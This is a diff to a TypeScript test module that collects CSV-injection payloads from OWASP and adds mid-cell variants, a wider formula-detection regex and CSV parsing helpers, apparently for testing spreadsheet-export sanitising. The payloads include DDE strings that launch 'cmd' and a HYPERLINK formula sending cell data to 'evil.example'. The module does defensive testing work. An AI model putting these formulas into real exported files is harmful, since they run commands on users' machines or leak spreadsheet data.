@@ -1,3 +1,5 @@
+import Papa from "papaparse"
+
 /**
  * CSV-injection payloads from the OWASP "CSV Injection" page, plus the spellings its rule names:
  * a leading tab or carriage return, and leading spaces before the formula character.
@@ -13,6 +15,7 @@ export const OWASP_CSV_PAYLOADS = [
   `-2+3`,
   `@SUM(1+9)*cmd|' /C calc'!A0`,
   `=1+2";=1+2`,
+  `=1+2'" ;,=1+2`,
   `\t=1+2`,
   `\r=1+2`,
   `   =1+2`,
@@ -20,7 +23,35 @@ export const OWASP_CSV_PAYLOADS = [
   `-1.5e3`,
 ] as const
 
-/** A spreadsheet runs a cell as a formula when, after any spaces, it starts with one of these. */
+/**
+ * Formulas hidden after a list separator or a line break inside a cell: harmless in a spreadsheet
+ * that splits on `,`, run by one whose locale splits on `;` (Arabic, much of Europe) or that reads tabs.
+ */
+export const MID_CELL_PAYLOADS = [
+  `x;=HYPERLINK("http://evil.example/?d="&A1,"click")`,
+  `Sara;+1+1`,
+  `a,=1+2`,
+  `a;  -2+3+cmd|' /C calc'!A0`,
+  `name\t=1+2`,
+  `line one\n@SUM(1+9)`,
+  `line one\r\n=1+2`,
+  `a;\u00a0=1+2`,
+] as const
+
+/** A spreadsheet runs a cell as a formula when, after any spaces or an opening quote, it starts with one of these. */
 export function runsAsFormula(cell: string): boolean {
-  return /^[ ]*[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)
+  return /^["\s\u00a0]*[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell.trim())
+}
+
+/**
+ * The cells a spreadsheet sees when it opens `csv` with `delimiter` as its list separator, read by
+ * papaparse (quotes honoured, as Excel and LibreOffice do); numbers typed as numbers.
+ */
+export function spreadsheetCells(csv: string, delimiter: "," | ";" | "\t"): unknown[][] {
+  return Papa.parse<unknown[]>(csv, { delimiter, newline: "\r\n", quoteChar: '"', dynamicTyping: true, skipEmptyLines: true }).data
+}
+
+/** The same file read by a tool that ignores quotes and splits every line on `separator`. */
+export function naiveCells(csv: string, separator: RegExp): string[] {
+  return csv.split(/\r\n|\n|\r/).flatMap((line) => line.split(separator))
 }
